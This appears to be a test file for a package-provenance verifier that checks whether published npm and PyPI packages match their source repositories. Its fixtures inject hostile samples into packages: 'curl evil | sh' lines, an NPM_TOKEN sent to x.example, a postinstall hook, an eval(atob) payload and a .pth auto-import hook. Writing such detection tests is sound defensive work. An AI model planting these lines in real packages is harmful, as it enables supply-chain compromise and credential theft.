@@ -1,0 +1,213 @@
+"""verify: genuine packages come out without high findings; each tampering comes out `mismatch` naming the file."""
+
+from __future__ import annotations
+
+import io
+import json
+import tarfile
+from pathlib import Path
+
+from ossprov import pipeline
+from ossprov.fixtures.world import World
+from ossprov.model import FileStatus, Severity, Verdict
+from tests.conftest import npm_project
+
+
+def retar(tarball: Path, change: dict[str, bytes | None]) -> Path:
+    """A copy of an npm tarball with files replaced, added or (None) removed."""
+    out = tarball.with_name("tampered-" + tarball.name)
+    with tarfile.open(tarball) as src, tarfile.open(out, "w:gz") as dst:
+        seen = set()
+        for member in src.getmembers():
+            name = member.name.removeprefix("package/")
+            seen.add(name)
+            if name in change:
+                if change[name] is None:
+                    continue
+                data = change[name]
+                member.size = len(data)
+                dst.addfile(member, io.BytesIO(data))
+            else:
+                dst.addfile(member, src.extractfile(member))
+        for name, data in change.items():
+            if name not in seen and data is not None:
+                info = tarfile.TarInfo("package/" + name)
+                info.size = len(data)
+                dst.addfile(info, io.BytesIO(data))
+    return out
+
+
+def highs(result) -> list:
+    return [f for f in result.findings if f.severity is Severity.HIGH]
+
+
+def plain(world: World, name: str = "plain"):
+    repo, pkg = npm_project(world, f"acme/{name}", name, "1.0.0", {"lib/helper.js": "exports.h = 1;\n"})
+    repo.commit("release")
+    return repo, pkg, world.npm_pack(pkg)
+
+
+def test_genuine_plain_package_is_faithful(world: World) -> None:
+    _, _, tarball = plain(world)
+    result = pipeline.verify(world.publish_npm(tarball))
+    assert result.verdict is Verdict.FAITHFUL, result.findings
+    assert result.counts["identical"] == 4 and not highs(result)
+
+
+def test_line_injected_into_main_module(world: World) -> None:
+    _, pkg, tarball = plain(world)
+    evil = (pkg / "index.js").read_bytes() + b"require('child_process').exec('curl evil | sh');\n"
+    result = pipeline.verify(world.publish_npm(retar(tarball, {"index.js": evil})))
+    assert result.verdict is Verdict.MISMATCH
+    assert any(f.path == "index.js" and f.rule == "OSP101" for f in highs(result))
+    diff = next(r for r in result.file_results if r.path == "index.js").diff
+    assert diff and "+require('child_process')" in diff
+
+
+def test_new_module_required_from_main(world: World) -> None:
+    _, pkg, tarball = plain(world)
+    main = b"require('./payload');\n" + (pkg / "index.js").read_bytes()
+    result = pipeline.verify(world.publish_npm(retar(tarball, {"index.js": main, "payload.js": b"steal();\n"})))
+    assert result.verdict is Verdict.MISMATCH
+    paths = {f.path for f in highs(result)}
+    assert {"index.js", "payload.js"} <= paths
+    assert next(r for r in result.file_results if r.path == "payload.js").status is FileStatus.UNEXPLAINED
+
+
+def test_postinstall_added_to_package_json(world: World) -> None:
+    _, pkg, tarball = plain(world)
+    manifest = json.loads((pkg / "package.json").read_text())
+    manifest["scripts"] = {"postinstall": "node steal.js"}
+    result = pipeline.verify(world.publish_npm(retar(tarball, {"package.json": json.dumps(manifest).encode()})))
+    assert result.verdict is Verdict.MISMATCH
+    assert any(f.rule == "OSP111" and "postinstall" in f.message for f in highs(result))
+
+
+def test_dependency_added_like_event_stream(world: World) -> None:
+    _, pkg, tarball = plain(world)
+    manifest = json.loads((pkg / "package.json").read_text())
+    manifest["dependencies"] = {"flatmap-stream": "^0.1.0"}
+    result = pipeline.verify(world.publish_npm(retar(tarball, {"package.json": json.dumps(manifest).encode()})))
+    assert any(f.rule == "OSP113" and "flatmap-stream" in f.message for f in highs(result))
+
+
+def test_publish_time_package_json_rewrites_are_normalized(world: World) -> None:
+    _, pkg, tarball = plain(world)
+    manifest = json.loads((pkg / "package.json").read_text())
+    manifest.update({"gitHead": "abc", "_id": "plain@1.0.0", "readmeFilename": "README.md"})
+    text = json.dumps(manifest, indent=4).encode()
+    result = pipeline.verify(world.publish_npm(retar(tarball, {"package.json": text})))
+    assert result.verdict is Verdict.FAITHFUL
+    assert next(r for r in result.file_results if r.path == "package.json").status is FileStatus.NORMALIZED
+
+
+def test_crlf_line_endings_are_normalized(world: World) -> None:
+    _, pkg, tarball = plain(world)
+    crlf = (pkg / "lib/helper.js").read_bytes().replace(b"\n", b"\r\n")
+    result = pipeline.verify(world.publish_npm(retar(tarball, {"lib/helper.js": crlf})))
+    helper = next(r for r in result.file_results if r.path == "lib/helper.js")
+    assert helper.status is FileStatus.NORMALIZED and "line endings" in helper.reason
+
+
+def built(world: World):
+    repo, pkg = npm_project(world, "acme/built", "built", "1.0.0",
+                            {"src/index.ts": "export const greet = (n: string) => `hi ${n}`;\n",
+                             ".gitignore": "dist/\n"},
+                            extra={"main": "dist/index.js", "scripts": {"build": "tsc"}, "files": ["dist", "src"]})
+    repo.commit("release")
+    (pkg / "dist").mkdir()
+    (pkg / "dist/index.js").write_text('"use strict";\nexports.greet = (n) => `hi ${n}`;\n'
+                                       "//# sourceMappingURL=index.js.map\n")
+    source = (pkg / "src/index.ts").read_text()
+    (pkg / "dist/index.js.map").write_text(json.dumps({
+        "version": 3, "file": "index.js", "sources": ["../src/index.ts"], "sourcesContent": [source],
+        "names": [], "mappings": "AAAA"}))
+    (pkg / "dist/index.d.ts").write_text("export declare const greet: (n: string) => string;\n")
+    return pkg, world.npm_pack(pkg)
+
+
+def test_build_output_is_generated_and_vouched_by_source_map(world: World) -> None:
+    _, tarball = built(world)
+    result = pipeline.verify(world.publish_npm(tarball))
+    assert result.verdict is Verdict.FAITHFUL_WITH_BUILD_OUTPUT, result.findings
+    statuses = {r.path: r.status for r in result.file_results}
+    assert statuses["dist/index.js"] is FileStatus.GENERATED
+    assert statuses["dist/index.d.ts"] is FileStatus.GENERATED
+    assert not highs(result)
+    assert any(f.rule == "OSP202" for f in result.findings)
+
+
+def test_minified_bundle_with_injected_code_despite_source_map(world: World) -> None:
+    pkg, tarball = built(world)
+    bundle = (pkg / "dist/index.js").read_bytes().replace(
+        b'"use strict";', b'"use strict";require("https").get("https://x.example/"+process.env.NPM_TOKEN);')
+    result = pipeline.verify(world.publish_npm(retar(tarball, {"dist/index.js": bundle})))
+    assert result.verdict is Verdict.MISMATCH
+    assert any(f.rule == "OSP121" and f.path == "dist/index.js" for f in highs(result))
+
+
+def test_source_map_embedding_different_source(world: World) -> None:
+    pkg, tarball = built(world)
+    doc = json.loads((pkg / "dist/index.js.map").read_text())
+    doc["sourcesContent"] = ["export const greet = () => eval(atob('...'));\n"]
+    result = pipeline.verify(world.publish_npm(retar(tarball, {"dist/index.js.map": json.dumps(doc).encode()})))
+    assert any(f.rule == "OSP122" for f in highs(result))
+
+
+def test_missing_file_from_files_list(world: World) -> None:
+    pkg, tarball = built(world)
+    result = pipeline.verify(world.publish_npm(retar(tarball, {"src/index.ts": None})))
+    missing = [r for r in result.file_results if r.status is FileStatus.MISSING]
+    assert [r.path for r in missing] == ["src/index.ts"]
+
+
+def test_unverifiable_without_repository(world: World) -> None:
+    repo, pkg = npm_project(world, "acme/orphan", "orphan", "1.0.0", repository=None)
+    repo.commit("release")
+    result = pipeline.verify(world.publish_npm(world.npm_pack(pkg)))
+    assert result.verdict is Verdict.UNVERIFIABLE and "no source repository" in result.reason
+
+
+def test_pypi_sdist_and_wheel(world: World) -> None:
+    repo = world.repo("acme/snake")
+    files = {"pyproject.toml": '[project]\nname = "snake"\nversion = "1.0"\n', "src/snake/__init__.py": "X = 1\n"}
+    repo.commit("release", files)
+    meta = {"Project-URL": ["Source, https://github.com/acme/snake"]}
+    purl = world.publish_pypi("snake", "1.0", files, metadata=meta, wheel_files={"snake/__init__.py": "X = 1\n"})
+    result = pipeline.verify(purl)
+    assert result.verdict is Verdict.FAITHFUL, result.findings
+    assert result.locate.commit == repo.head()
+
+
+def test_pypi_wheel_with_extra_module_and_pth(world: World, tmp_path: Path) -> None:
+    import zipfile
+
+    repo = world.repo("acme/wheely")
+    files = {"pyproject.toml": '[project]\nname = "wheely"\nversion = "2.0"\n', "wheely/__init__.py": "Y = 2\n"}
+    repo.commit("release", files)
+    meta = {"Project-URL": ["Source, https://github.com/acme/wheely"]}
+    world.publish_pypi("wheely", "2.0", files, metadata=meta, wheel_files={"wheely/__init__.py": "Y = 2\n"})
+    wheel = next((world.root / "registry/pypi/files").glob("wheely-2.0-*.whl"))
+    tampered = tmp_path / wheel.name
+    with zipfile.ZipFile(wheel) as src, zipfile.ZipFile(tampered, "w") as dst:
+        for item in src.infolist():
+            dst.writestr(item, src.read(item))
+        dst.writestr("wheely/_hook.py", "import os; os.system('id')\n")
+        dst.writestr("wheely-hook.pth", "import wheely._hook\n")
+    result = pipeline.verify("pkg:pypi/wheely@2.0", artifact=tampered)
+    assert result.verdict is Verdict.MISMATCH
+    rules = {(f.rule, f.path) for f in highs(result)}
+    assert ("OSP131", "wheely-hook.pth") in rules and ("OSP102", "wheely/_hook.py") in rules
+
+
+def test_sdist_with_changed_setup_py(world: World, tmp_path: Path) -> None:
+    repo = world.repo("acme/setupy")
+    files = {"setup.py": "from setuptools import setup\nsetup(name='setupy', version='1.0')\n",
+             "setupy.py": "Z = 3\n"}
+    repo.commit("release", files)
+    meta = {"Home-page": ["https://github.com/acme/setupy"]}
+    evil = {**files, "setup.py": files["setup.py"] + "import os; os.system('curl evil|sh')\n"}
+    purl = world.publish_pypi("setupy", "1.0", evil, metadata=meta)
+    result = pipeline.verify(purl)
+    assert result.verdict is Verdict.MISMATCH
+    assert any(f.path == "setup.py" for f in highs(result))
